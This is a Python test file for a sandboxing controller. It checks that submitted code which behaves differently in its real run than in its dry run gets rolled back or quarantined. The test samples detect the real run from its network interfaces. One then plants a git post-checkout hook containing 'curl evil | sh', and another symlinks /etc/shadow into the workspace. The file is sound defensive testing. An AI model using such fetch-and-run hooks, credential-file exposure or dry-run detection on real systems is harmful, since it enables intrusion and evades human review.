"""On the real Docker engine: programs that tell the real run from the dry run and then do
more are not committed; nondeterminism at the paths the dry run wrote keeps committing.

The tell used here is deterministic: under a profile that grants network, only the real run
has a network interface besides loopback. (The clock, an approval's wait or the page cache
tell the runs apart as well; binding makes the tell harmless, whichever it is.)
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
import yaml

from controller.core.models import State
from controller.core.ports import SandboxRuntime
from tests.conftest import ROOT, bundle_with, make_controller, parking_rule, python
from tests.integration.conftest import LocalController

pytestmark = pytest.mark.docker

# True in the real run only: the network the profile grants the bounded run.
REAL = "import os\nREAL = any(n != 'lo' for n in os.listdir('/sys/class/net'))\n"
SWITCHED = {
    "a new path": (REAL + "open('/workspace/report.txt', 'w').write('report')\n"
                   "if REAL:\n    os.makedirs('/workspace/.hooks', exist_ok=True)\n"
                   "    open('/workspace/.hooks/post-checkout', 'w').write('curl evil | sh')\n",
                   "created_outside"),
    "a deletion": (REAL + "open('/workspace/report.txt', 'w').write('report')\n"
                   "if REAL:\n    os.remove('/workspace/seed.txt')\n", "deleted_outside"),
    "a mode": (REAL + "open('/workspace/report.txt', 'w').write('report')\n"
               "if REAL:\n    os.chmod('/workspace/report.txt', 0o755)\n", "mode_changed"),
    "a modification": (REAL + "open('/workspace/report.txt', 'w').write('report')\n"
                       "if REAL:\n    open('/workspace/seed.txt', 'a').write('more')\n",
                       "modified_outside"),
    "a link": (REAL + "if REAL:\n    os.symlink('seed.txt', '/workspace/report.txt')\n"
               "else:\n    open('/workspace/report.txt', 'w').write('report')\n",
               "kind_changed"),
    "a socket": (REAL + "import socket\nif REAL:\n"
                 "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', "
                 "('127.0.0.1', 9))\n", "network_new"),
    "another exit status": (REAL + "raise SystemExit(0 if REAL else 3)\n", "exit_changed"),
    "more processes": (REAL + "import subprocess, time\n"
                       "n = 24 if REAL else 0\n"
                       "kids = [subprocess.Popen(['sleep', '1']) for _ in range(n)]\n"
                       "time.sleep(0.5)\n[k.wait() for k in kids]\n", "totals_over"),
}


def networked_profiles(tmp_path: Path) -> Path:
    """The shipped standard profile with network granted (to the real run alone)."""
    directory = tmp_path / "profiles"
    directory.mkdir()
    raw = yaml.safe_load((ROOT / "profiles" / "standard.yaml").read_text())
    raw["seccomp"] = str((ROOT / "profiles" / raw["seccomp"]).resolve())
    raw["network"] = True
    (directory / "standard.yaml").write_text(yaml.safe_dump(raw))
    return directory


@pytest.fixture
def networked(tmp_path: Path, docker_runtime: SandboxRuntime) -> LocalController:
    return make_controller(tmp_path / "data", docker_runtime,
                           profiles_dir=networked_profiles(tmp_path))


@pytest.mark.parametrize("case", sorted(SWITCHED))
def test_a_real_run_that_does_more_than_its_dry_run_is_not_committed(
        networked: LocalController, case: str) -> None:
    code, counted = SWITCHED[case]
    seeded = networked.submit(python("open('/workspace/seed.txt', 'w').write('seed')"))
    assert seeded.state is State.COMMITTED, seeded.reason
    result = networked.submit(python(code))
    assert result.state is State.ROLLED_BACK, result.reason
    assert "commit.deny-divergence" in result.reason
    assert result.divergence is not None and result.divergence.diverged
    found = getattr(result.divergence, counted)
    if counted == "totals_over":
        assert found == ("peak_pids",)
    else:
        assert found is True or found >= 1
    assert networked.store.workspace_version("default") == 1


def test_timestamps_and_random_sizes_keep_committing(networked: LocalController) -> None:
    code = ("import os, time\n"
            "open('/workspace/stamp.txt', 'w').write(repr(time.time()))\n"
            "size = int.from_bytes(os.urandom(2), 'big')\n"
            "open('/workspace/random.bin', 'wb').write(os.urandom(size))\n"
            "print(os.urandom(size % 200).hex())\n")
    for attempt in range(3):
        result = networked.submit(python(code))
        assert result.state is State.COMMITTED, (attempt, result.reason)
        assert result.divergence is not None and not result.divergence.diverged


def test_a_new_hazard_in_the_real_run_is_quarantined(networked: LocalController) -> None:
    result = networked.submit(python(
        REAL + "open('/workspace/report.txt', 'w').write('report')\n"
        "if REAL:\n    os.symlink('/etc/shadow', '/workspace/shadow')\n"))
    assert result.state is State.QUARANTINED, result.reason
    assert "symlink" in result.reason
    assert result.dry_run_diff is not None and not result.dry_run_diff.hazardous


def test_packets_are_counted_however_soon_the_code_exits(controller: LocalController) -> None:
    """The namespace is held before the code starts: a program that sends one datagram and
    exits at once is counted in both runs; sent in both, it is no divergence."""
    result = controller.submit(python(
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', "
        "('127.0.0.1', 9))\n"))
    assert result.state is State.COMMITTED, result.reason
    for run in (result.dry_run, result.bounded_run):
        assert run is not None and run.loopback_packets is not None
        assert run.loopback_packets >= 1
    assert result.radius is not None and result.radius.totals["loopback_packets"] >= 1
    assert result.divergence is not None and not result.divergence.network_new
    quiet = controller.submit(python("print(1)"))
    assert quiet.dry_run is not None and quiet.dry_run.loopback_packets == 0


def test_a_run_without_network_has_only_a_loopback_that_localhost_names(
        controller: LocalController) -> None:
    """Its networking disabled at the engine (no network sandbox, no hook), a run still has a
    namespace of its own with lo up, localhost resolves to it, and no resolver of the host's
    is named in it."""
    result = controller.submit(python(
        "import os, socket\n"
        "listener = socket.create_server(('localhost', 0))\n"
        "socket.create_connection(listener.getsockname()).close()\n"
        "resolv = open('/etc/resolv.conf').read() if os.path.exists('/etc/resolv.conf') else ''\n"
        "print(sorted(os.listdir('/sys/class/net')), socket.gethostbyname('localhost'), "
        "'nameserver' in resolv, os.readlink('/proc/self/ns/net'))\n"))
    assert result.state is State.COMMITTED, result.reason
    assert result.stdout.startswith("['lo'] 127.0.0.1 False net:["), result.stdout
    assert os.readlink("/proc/self/ns/net") not in result.stdout


def test_each_sandbox_has_an_etc_hosts_of_its_own(tmp_path: Path,
                                                docker_runtime: SandboxRuntime) -> None:
    """One file bound into every sandbox would be a channel between them (flock, inotify):
    two sandboxes alive together each have their own, in their code directories."""
    from controller.adapters.fs.trees import hand_to_sandbox
    from controller.core.models import Phase
    from controller.core.ports import RunSpec
    from controller.profiles.load import load_profile

    profile = load_profile(ROOT / "profiles" / "standard.yaml")
    sandboxes, sources = [], []
    for n in range(2):
        work, code = tmp_path / f"w{n}", tmp_path / f"c{n}"
        work.mkdir()
        code.mkdir()
        (code / "main.py").write_text("print(open('/etc/hosts').read())")
        hand_to_sandbox(work)
        spec = RunSpec(submission_id=f"hosts-{n}", phase=Phase.DRY_RUN, profile=profile,
                       command=("python3", "/sandbox/main.py"), workspace_dir=work,
                       code_dir=code, image=docker_runtime.image_id(profile.image))
        sandboxes.append(docker_runtime.start(spec))
    for sandbox in sandboxes:
        container = sandbox.container  # type: ignore[attr-defined]
        [source] = [m["Source"] for m in container.attrs["Mounts"]
                    if m["Destination"] == "/etc/hosts"]
        sources.append(Path(source))
    assert sources == [tmp_path / f"c{n}" / ".hosts" for n in range(2)]
    assert os.stat(sources[0]).st_ino != os.stat(sources[1]).st_ino
    result = sandboxes[0].run()
    assert result.stdout.decode().startswith("127.0.0.1\tlocalhost")
    sandboxes[1].discard()


def test_an_approved_submission_that_diverges_does_not_commit(
        tmp_path: Path, docker_runtime: SandboxRuntime) -> None:
    networked = make_controller(tmp_path / "data", docker_runtime,
                                profiles_dir=networked_profiles(tmp_path),
                                policy_dir=bundle_with(tmp_path, "parks", parking_rule(0)))
    parked = networked.submit(python(SWITCHED["a new path"][0]))
    assert parked.state is State.AWAITING_APPROVAL and parked.radius is not None
    running = networked.approve(parked.id, "carol", True, "the report looks fine")
    assert running.approval is not None
    assert running.approval.radius_sha256 == parked.radius.digest
    result = networked.process(running)
    assert result.state is State.ROLLED_BACK, result.reason
    assert "commit.deny-divergence" in result.reason
    assert result.divergence is not None and result.divergence.sample == (
        ".hooks", ".hooks/post-checkout")
